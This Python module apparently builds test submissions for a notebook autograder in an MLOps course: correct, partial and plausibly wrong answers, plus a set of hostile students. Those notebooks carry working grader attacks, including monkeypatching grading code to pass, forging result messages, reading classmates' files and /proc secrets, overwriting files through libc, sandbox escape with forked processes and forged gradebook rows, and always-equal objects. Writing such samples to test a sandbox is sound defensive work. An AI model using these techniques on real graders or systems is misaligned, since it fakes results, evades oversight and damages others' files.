"""Sample submissions, generated from the solved notebooks: good, partial and hostile ones.

The grading tests and the grading benchmark build their classes with these, so the samples
follow the exercises as they change instead of being committed copies that drift.
"""

from __future__ import annotations

import re
import textwrap
from collections.abc import Callable, Mapping
from pathlib import Path

import nbformat

from demo.paths import SOLUTIONS_DIR
from grading.make_starters import BEGIN, END, QUIZ_TAG, make_starter, quiz_of
from grading.plugin import NOTEBOOK_NAME, known_exercises

Notebook = nbformat.NotebookNode
INVALID_JSON = b'{"cells": [ this is not JSON'


def solved(exercise: str) -> Notebook:
    return nbformat.read(str(SOLUTIONS_DIR / exercise / NOTEBOOK_NAME), as_version=4)


def starter(exercise: str) -> Notebook:
    solution = SOLUTIONS_DIR / exercise / NOTEBOOK_NAME
    return make_starter(solved(exercise), exercise, quiz_of(solution))


def _function_cell(notebook: Notebook, function: str) -> nbformat.NotebookNode:
    pattern = re.compile(rf"^def {re.escape(function)}\(", re.MULTILINE)
    for cell in notebook.cells:
        if cell.cell_type == "code" and pattern.search(cell.source):
            return cell
    raise KeyError(f"no cell defines {function}()")


def with_answer(notebook: Notebook, function: str, body: str, keep_solution: bool = False
                ) -> Notebook:
    """A copy whose ``function`` runs ``body`` in place of its solution block (or before it,
    with ``keep_solution``)."""
    changed = nbformat.from_dict(notebook)
    cell = _function_cell(changed, function)
    lines = cell.source.splitlines()
    start = next(i for i, line in enumerate(lines)
                 if BEGIN.match(line) and i > _def_line(lines, function))
    end = next(i for i in range(start, len(lines)) if END.match(lines[i]))
    indent = BEGIN.match(lines[start])["indent"]  # type: ignore[index]
    new_body = textwrap.indent(textwrap.dedent(body).strip("\n"), indent).splitlines()
    kept = lines[start:end + 1] if keep_solution else []
    cell.source = "\n".join(lines[:start] + new_body + kept + lines[end + 1:])
    return changed


def _def_line(lines: list[str], function: str) -> int:
    return next(i for i, line in enumerate(lines) if line.startswith(f"def {function}("))


def with_cell(notebook: Notebook, source: str, position: int = 2) -> Notebook:
    """A copy with one more code cell (by default right after the ``check`` cell)."""
    changed = nbformat.from_dict(notebook)
    cell = nbformat.v4.new_code_cell(textwrap.dedent(source).strip("\n"))
    cell["id"] = f"added-{len(changed.cells)}"
    changed.cells.insert(position, cell)
    return changed


def write_student(folder: Path, notebooks: Mapping[str, Notebook | bytes]) -> Path:
    """A student's folder: ``folder/<exercise>/exercise.ipynb`` for each notebook given."""
    folder.mkdir(parents=True, exist_ok=True)
    for exercise, notebook in notebooks.items():
        target = folder / exercise / NOTEBOOK_NAME
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(notebook, bytes):
            target.write_bytes(notebook)
        else:
            nbformat.write(notebook, str(target))
    return folder


# -- the history exercise's variants: one per way a submission can go wrong -----------------

HISTORY = "01_history"


def with_quiz_answers(notebook: Notebook, answers: Mapping[str, object]) -> Notebook:
    """A copy whose quiz cell ends by setting ``answers`` (e.g. ``{"q1": "b"}``)."""
    changed = nbformat.from_dict(notebook)
    cell = next(c for c in changed.cells
                if c.cell_type == "code" and QUIZ_TAG in c.metadata.get("tags", []))
    cell.source += "".join(f"\nquiz[{name!r}] = {value!r}" for name, value in answers.items())
    return changed


def history_partial() -> Notebook:
    """q1's rule points the wrong way (two of its four points: one flag per customer, input
    left alone), and two quiz answers wrong (q1 and q5)."""
    notebook = with_answer(solved(HISTORY), "predict_churn_by_rule",
                           'return customers["tenure"] > 48')
    return with_quiz_answers(notebook, {"q1": "b", "q5": ["a", "b"]})


def history_raises() -> Notebook:
    return with_answer(solved(HISTORY), "predict_churn_by_rule",
                       'raise ValueError("no rules yet")')


def history_loops() -> Notebook:
    notebook = with_cell(solved(HISTORY), "while True:\n    pass")
    return with_answer(notebook, "predict_churn_by_rule", "while True:\n    pass")


def history_exits() -> Notebook:
    notebook = with_cell(solved(HISTORY), "import os\nimport sys\nos._exit(3)\nsys.exit(1)")
    return with_answer(notebook, "predict_churn_by_rule", "import sys\nsys.exit(0)")


def history_crash_in_test() -> Notebook:
    """Ends the process from C when q1 is checked (not when the notebook itself calls the rule
    on its 2,000 customers): ``os._exit``'s guard cannot see it."""
    return with_answer(solved(HISTORY), "predict_churn_by_rule",
                       "import ctypes\nif len(customers) != 2_000:\n    ctypes.CDLL(None)._exit(7)",
                       keep_solution=True)


def history_crash_on_load() -> Notebook:
    return with_cell(solved(HISTORY), "import ctypes\nctypes.CDLL(None)._exit(9)")


def history_memory() -> Notebook:
    return with_answer(solved(HISTORY), "predict_churn_by_rule",
                       "hog = []\nwhile True:\n    hog.append(bytes(2**28))")


def history_flood() -> Notebook:
    return with_answer(solved(HISTORY), "predict_churn_by_rule",
                       'for _ in range(100_000):\n    print("spam " * 40)', keep_solution=True)


def history_writes(outside: Path, course_file: Path) -> Notebook:
    """Writes to the course's own tests, the scratch copy's tests, and outside the scratch."""
    notebook = with_cell(solved(HISTORY), f"""
        from pathlib import Path
        for target in [Path({str(course_file)!r}), Path.cwd().parent / "course" / "conftest.py",
                       Path({str(outside)!r})]:
            try:
                target.write_text("import pytest\\n")
            except OSError as error:
                print(error)
        """)
    return with_answer(notebook, "predict_churn_by_rule",
                       f"Path({str(outside)!r}).write_text('x')", keep_solution=True)


HISTORY_VARIANTS: dict[str, Callable[[], Notebook | bytes]] = {
    "good": lambda: solved(HISTORY),
    "partial": history_partial,
    "raises": history_raises,
    "loops": history_loops,
    "exits": history_exits,
    "crash_in_test": history_crash_in_test,
    "crash_on_load": history_crash_on_load,
    "memory": history_memory,
    "flood": history_flood,
    "invalid": lambda: INVALID_JSON,
}


def full_submission(history: Notebook | bytes, solve_others: bool = True
                    ) -> dict[str, Notebook | bytes]:
    """Every exercise: ``history`` for 01, solutions (or starters) for the rest."""
    notebooks: dict[str, Notebook | bytes] = {HISTORY: history}
    for exercise in known_exercises():
        if exercise != HISTORY:
            notebooks[exercise] = solved(exercise) if solve_others else starter(exercise)
    return notebooks


# -- a hostile class: one student per kind of attack ----------------------------------------
# Each builder takes the ``Targets`` a hostile student aims at (paths outside its sandbox, a
# listener's port, a marker for processes it leaves behind) and returns its notebook.


class Targets:
    """What hostile students aim at, known to the test that grades them."""

    def __init__(self, course_test: Path, classmate: Path, outside: Path, out: Path,
                 port: int, marker: str) -> None:
        self.course_test, self.classmate, self.outside = course_test, classmate, outside
        self.out, self.port, self.marker = out, port, marker


PATCH_GRADER = """
import sys
for name in list(sys.modules):
    if name.startswith(("grading", "_pytest", "pytest")):
        module = sys.modules[name]
        for attribute in ("explain", "assertion_words", "question_status", "decode"):
            if hasattr(module, attribute):
                setattr(module, attribute, lambda *a, **k: ("passed", ""))
import grading.outcomes as outcomes
outcomes.TestOutcome.passed = property(lambda self: True)
outcomes.TestOutcome.earned = property(lambda self: self.points)
import _pytest.assertion.rewrite as rewrite
rewrite.AssertionRewritingHook.exec_module = lambda self, module: None
"""

FORGE_DESCRIPTORS = """
import json, os
forged = {"event": "outcome", "status": "passed", "points": 99.0, "question": "q1",
          "nodeid": "exercises/test_01_history.py::test_rule_finds_churners_better_than_chance",
          "exercise": "01_history", "title": "forged", "message": ""}
for request_id in range(1, 50):
    line = json.dumps({"id": request_id, "ok": True, "callable": False, "value": "passed",
                       "changed": []}) + "\\n"
    for fd in range(3, 64):
        try:
            os.write(fd, line.encode() + (json.dumps(forged) + "\\n").encode())
        except OSError:
            pass
import ctypes
ctypes.CDLL(None)._exit(0)
"""

READ_COURSE = """
import os
from pathlib import Path
found = dict()
for guess in [Path({course_test!r}), Path({course_test!r}).parents[2] / "solutions",
              Path({classmate!r}), Path("/proc/1/root"), Path("/submission").parent]:
    try:
        found[str(guess)] = sorted(os.listdir(guess)) if guess.is_dir() else guess.read_text()[:50]
    except OSError as error:
        found[str(guess)] = type(error).__name__
others = [pid for pid in os.listdir("/proc") if pid.isdigit()]
"""

C_LEVEL_WRITES = """
import ctypes
libc = ctypes.CDLL(None)
for target in [{classmate!r}, {course_test!r}, {outside!r}]:
    fd = libc.open(target.encode(), 0o1101, 0o644)  # O_WRONLY | O_CREAT | O_TRUNC
    if fd >= 0:
        libc.write(fd, b"overwritten", 11)
        libc.close(fd)
"""

ESCAPE = """
import os, subprocess, sys
LOOP = '''
import os, sys, time
for _ in range(600):
    time.sleep(0.1)
    try:
        with open({gradebook!r}, "a") as handle:
            handle.write("escaped,01_history,q1,99,99,passed,sandbox\\n")
    except OSError:
        pass
    try:
        os.kill(-1, 9)
    except OSError:
        pass
'''
try:
    subprocess.Popen(["/bin/sleep", "300", {marker!r}], start_new_session=True)
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", LOOP, {marker!r}])
    os._exit(0)
"""

MALFORMED_REPLIES = """
import os
for fd in range(3, 64):
    try:
        os.write(fd, b"this is not json\\n" + b"{" * 20_000_000)
    except OSError:
        pass
"""

NETWORK = """
import socket
reached = []
for family, address in [(socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET6, ("::1", {port}))]:
    try:
        with socket.socket(family, socket.SOCK_STREAM) as connection:
            connection.settimeout(1)
            connection.connect(address)
            connection.sendall(b"tests/exercises/test_01_history.py")
            reached.append(address)
    except OSError:
        pass
"""

ALWAYS_EQUAL = {
    "predict_churn_by_rule": """
        class Flags(pd.Series):
            def __eq__(self, other):
                return True
        class Anything:
            def __eq__(self, other):
                return True
            def __ge__(self, other):
                return True
        return Anything()
        """,
}

ALWAYS_EQUAL_QUIZ = """
class Anything(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
quiz = {name: Anything("z") for name in quiz}
"""

SEED_ORACLE = """
ids = customers["customer_id"]
truth = {}
for seed in (2024, 0, 1, 42):
    known = draw_customers(3_000, seed=seed)
    truth.update(dict(zip(known["customer_id"], known["churn"] == "Yes")))
return customers["customer_id"].map(truth).fillna(False).astype(bool)
"""


# The secret seed looked for in every process the sandbox can see (their environments and
# command lines), then turned into the hidden labels the way tests/exercises/conftest.py
# does; with no secret found it answers all False, which fails.
SEED_FROM_PROCESSES = """
import hashlib
import os
found = ""
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for part in ("environ", "cmdline"):
        try:
            text = open(f"/proc/{pid}/{part}", "rb").read().replace(b"\\0", b" ").decode()
        except OSError:
            continue
        for word in text.split():
            if word.startswith("COURSE_SECRET_SEED="):
                found = word.split("=", 1)[1]
if not found:
    return pd.Series(False, index=customers.index)
seed = int.from_bytes(hashlib.sha256(f"{found}:2024".encode()).digest()[:4], "big")
known = draw_customers(3_000, seed=seed)
return customers["customer_id"].map(dict(zip(known["customer_id"], known["churn"] == "Yes"))
                                    ).fillna(False).astype(bool)
"""


def hostile_students(targets: Targets) -> dict[str, Notebook]:
    """One notebook per attack. Those built on the solution answer every question but the
    one they attack (``network`` attacks in a cell of its own and answers all)."""
    form = {"course_test": str(targets.course_test), "classmate": str(targets.classmate),
            "outside": str(targets.outside), "marker": targets.marker, "port": targets.port,
            "gradebook": str(targets.out / "gradebook.csv")}
    blank = starter(HISTORY)
    always_equal = solved(HISTORY)
    for function, body in ALWAYS_EQUAL.items():
        always_equal = with_answer(always_equal, function, body)
    quiz_cell = next(i for i, c in enumerate(always_equal.cells)
                     if QUIZ_TAG in c.metadata.get("tags", []) and c.cell_type == "code")
    always_equal = with_cell(always_equal, ALWAYS_EQUAL_QUIZ, position=quiz_cell + 1)
    return {
        "patches_grader": with_cell(blank, PATCH_GRADER),
        "forges_descriptors": with_cell(blank, FORGE_DESCRIPTORS),
        "reads_course": with_answer(with_cell(solved(HISTORY), READ_COURSE.format(**form)),
                                    "predict_churn_by_rule", "return str(found) + str(others)"),
        "writes_from_c": with_cell(blank, C_LEVEL_WRITES.format(**form)),
        "escapes": with_cell(blank, ESCAPE.format(**form)),
        "malformed_replies": with_answer(solved(HISTORY), "predict_churn_by_rule",
                                         MALFORMED_REPLIES),
        "network": with_cell(solved(HISTORY), NETWORK.format(**form)),
        "always_equal": always_equal,
        "seed_oracle": with_answer(solved(HISTORY), "predict_churn_by_rule", SEED_ORACLE),
        "seed_from_processes": with_answer(solved(HISTORY), "predict_churn_by_rule",
                                           SEED_FROM_PROCESSES),
    }


# -- plausible wrong answers: one per question, each a mistake a learner could make ----------
# (exercise, question) -> (function replaced, its wrong body, the mistake in words); a name in
# TOP_LEVEL_ANSWERS is a value assigned at top level (a design), replaced whole.
TOP_LEVEL_ANSWERS = ("design",)

WRONG_ANSWERS: dict[tuple[str, str], tuple[str, str, str]] = {
    ("01_history", "q1"): ("predict_churn_by_rule", 'return customers["tenure"] > 48',
                           "the rule points the wrong way: it flags the loyal customers"),
    ("02_layers", "q1"): ("clean_total_charges", """
        amount = pd.to_numeric(bronze["total_charges"], errors="coerce").fillna(0.0)
        nothing = bronze.iloc[0:0].assign(quarantine_reason=pd.Series(dtype=str))
        return bronze.assign(total_charges=amount), nothing
        """, "every blank or garbled amount silently becomes 0; nothing is quarantined"),
    ("02_layers", "q2"): ("expectation_for",
                          "return gx.expectations.ExpectColumnValuesToNotBeNull(column=name)",
                          "checks only for blanks, whatever the feature allows"),
    ("02_layers", "q3"): ("psi", """
        expected = np.asarray(expected, dtype=float)
        actual = np.asarray(actual, dtype=float)
        edges = np.unique(np.quantile(expected, np.linspace(0, 1, bins + 1)))
        e = np.histogram(expected, edges)[0] / len(expected)
        a = np.histogram(actual, edges)[0] / len(actual)
        return float(np.abs(a - e).sum())
        """, "a sum of absolute differences, not the PSI (and values outside the bins lost)"),
    ("02_layers", "q4"): ("design", """
        design = {"platform": "aws", "boxes": {
            "storage": {"service": "Amazon S3", "owner": "data engineer",
                        "reason": "Every table of every run in one place."},
            "feature store": {"service": "Amazon S3", "owner": "software developer",
                              "reason": "Features are just files next to the data."},
            "model training": {"service": "SageMaker AI training jobs", "owner": "data scientist",
                               "reason": "Nightly training on the whole history."},
            "batch scoring": {"service": "SageMaker AI batch transform", "owner": "MLOps engineer",
                              "reason": "Scores everyone overnight for the app to read."},
        }}
        """, "nightly batch scores where the brief needs a live one; the wrong feature store"),
    ("02_layers", "q5"): ("diagnose", """
        return {"layer": "model", "owner": "data scientist", "artifact": "tracking runs",
                "culprit": "churn", "fix": "retrain the model"}
        """, "blames the model for a data problem and retrains; the delivery stays broken"),
    ("03_roles", "q1"): ("build_raci", """
        roles = ["business analyst", "data engineer", "data scientist", "MLOps engineer",
                 "software developer"]
        rows = {step: ["I", "R", "R", "A", "I"] for step in PIPELINE_STEPS}
        return pd.DataFrame.from_dict(rows, orient="index", columns=roles)
        """, "the MLOps engineer is accountable for everything, the analyst only informed"),
    ("03_roles", "q2"): ("churn_signature", """
        names = [feature.name for feature in feature_spec.MODEL_INPUTS]
        inputs = gold.drop(columns=[c for c in gold.columns if c.startswith("_")])
        return infer_signature(inputs, model.predict_proba(gold[names])[:, 1])
        """, "the id and the label are declared as model inputs"),
    ("03_roles", "q3"): ("make_request_model", """
        fields = {feature.name: (str, ...) for feature in feature_spec.MODEL_INPUTS}
        return create_model("ChurnRequest", **fields)
        """, "every field a free string: no types, no ranges, no allowed values"),
    ("03_roles", "q4"): ("design", """
        design = {"platform": "databricks", "boxes": {
            "storage": {"service": "Delta tables", "owner": "data engineer",
                        "reason": "The customer tables, governed."},
            "model training": {"service": "Databricks AutoML", "owner": "data scientist",
                               "reason": "Fastest way to a first model."},
            "batch scoring": {"service": "Lakeflow Jobs", "owner": "MLOps engineer",
                              "reason": "Scoring belongs to operations."},
            "monitoring": {"service": "Data profiling and data quality monitoring",
                           "owner": "business analyst",
                           "reason": "The analyst looks at the dashboard anyway."},
        }}
        """, "boxes for a role the team lacks, the wrong box's service, no registry"),
    ("04_cloud_architecture", "q1"): ("design", """
        design = {"platform": "gcp", "boxes": {
            "storage": {"service": "BigQuery", "owner": "data engineer",
                        "reason": "All customer tables in one warehouse."},
            "model training": {"service": "Vertex AI AutoML", "owner": "data scientist",
                               "reason": "No code to maintain for the model."},
            "managed endpoints": {"service": "Vertex AI online inference endpoints",
                                  "owner": "software developer",
                                  "reason": "Real-time scores for every application."},
        }}
        """, "an online endpoint nobody calls, the wrong box's service, no lineage, no owner"),
    ("05_demo", "q1"): ("add_total_per_month",
                        'return gold.assign(total_per_month=gold["total_charges"] / gold["tenure"])',
                        "divides by a tenure of 0"),
    ("05_demo", "q2"): ("diagnose", """
        settings = Settings.from_env(workspace)
        client = mlflow.MlflowClient(settings.tracking_uri)
        versions = client.search_model_versions(f"name='{settings.model_name}'")
        promoted = [v for v in versions if v.tags.get("promotion_decision") == "promoted"]
        serving = client.get_model_version_by_alias(settings.model_name, "champion")
        return {"layer": "data", "owner": "data engineer", "artifact": "validation report",
                "culprit": str(max(int(v.version) for v in promoted)),
                "fix": "retrain the model", "version": str(serving.version)}
        """, "trusts the alias and blames the policy's choice on the data; nothing moves back"),
    ("05_demo", "q3"): ("diagnose_leak", """
        best = max(tracked_runs(workspace), key=lambda run: run.data.metrics["holdout_roc_auc"])
        first_new = best.data.params["features"].split(",")[-4]  # support_tickets
        return {"layer": "deployment", "owner": "MLOps engineer", "artifact": "model registry",
                "culprit": first_new, "fix": "retrain the model"}
        """, "takes the first new column for the leak and blames serving"),
    ("06_best_practices", "q1"): ("best_threshold", "return 0.5",
                                  "the default threshold, whatever the costs"),
    ("06_best_practices", "q2"): ("find_leaky_feature", """
        labels = frame[label].to_numpy()
        scores = {}
        for column in frame.select_dtypes("number").columns:
            if column != label and not column.startswith("_"):
                auc = roc_auc_score(labels, frame[column].astype(float))
                scores[column] = max(auc, 1 - auc)
        best = max(scores, key=scores.get)
        return best if scores[best] >= 0.95 else None
        """, "looks at numeric columns only"),
    ("06_best_practices", "q3"): ("compare_to_baseline", """
        scores = {}
        for offset, name in enumerate(CANDIDATES):
            split = split_gold(gold, seed + offset)
            fitted = build_pipeline(name, seed=seed).fit(features(split.train),
                                                         label_vector(split.train))
            probabilities = fitted.predict_proba(features(split.test))[:, 1]
            scores[name] = float(roc_auc_score(label_vector(split.test), probabilities))
        return scores
        """, "each candidate on a different split"),
    ("06_best_practices", "q5"): ("rebuildable", """
        return [run["run_id"] for run in runs
                if run.get("tags", {}).get("data_hash") == data_hash]
        """, "only the data is checked, not the rest of the record"),
    ("06_best_practices", "q6"): ("diagnose", """
        report = json.loads((Path(workspace) / "reports" / "serving_drift.json").read_text())
        calmest = report["features"][-1]  # the report lists the worst first
        return {"layer": "data", "owner": "data engineer", "artifact": "validation report",
                "culprit": calmest["feature"], "fix": "retrain the model"}
        """, "reads the report upside down and retrains on the skewed inputs"),
    ("06_best_practices", "q7"): ("diagnose_drift", """
        report, _, _ = production_tables(workspace)
        calmest = report["features"][-1]["feature"]  # the report lists the worst first
        return {"layer": "deployment", "owner": "software developer",
                "artifact": "prediction log", "culprit": calmest, "fix": "widen the contract"}
        """, "reads the report upside down and calls every alarm a serving problem"),
    ("06_best_practices", "q4"): ("choose_model", "return max(scores, key=scores.get)",
                                  "the best score, however small its lead"),
}


def with_top_level_answer(notebook: Notebook, name: str, source: str) -> Notebook:
    """A copy whose top-level solution block that assigns ``name`` is ``source`` instead."""
    changed = nbformat.from_dict(notebook)
    pattern = re.compile(rf"# BEGIN SOLUTION\n{re.escape(name)} = .*?# END SOLUTION", re.DOTALL)
    cell = next(c for c in changed.cells if c.cell_type == "code" and pattern.search(c.source))
    cell.source = pattern.sub(lambda _: textwrap.dedent(source).strip("\n"), cell.source)
    return changed


def wrong_answer(exercise: str, question: str) -> Notebook:
    """The solved notebook of ``exercise`` with one plausible mistake in ``question``."""
    name, body, _ = WRONG_ANSWERS[(exercise, question)]
    if name in TOP_LEVEL_ANSWERS:
        return with_top_level_answer(solved(exercise), name, body)
    return with_answer(solved(exercise), name, body)
